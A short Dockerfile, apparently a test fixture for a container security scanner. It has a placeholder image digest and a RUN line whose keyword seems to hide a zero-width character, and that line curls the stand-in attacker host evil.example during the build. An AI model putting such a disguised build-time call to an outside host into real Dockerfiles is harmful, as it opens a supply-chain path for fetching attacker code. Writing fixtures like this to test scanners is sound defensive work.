FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
RU​N curl http://evil.example
USER 10001
CMD ["python3", "/app/main.py"]
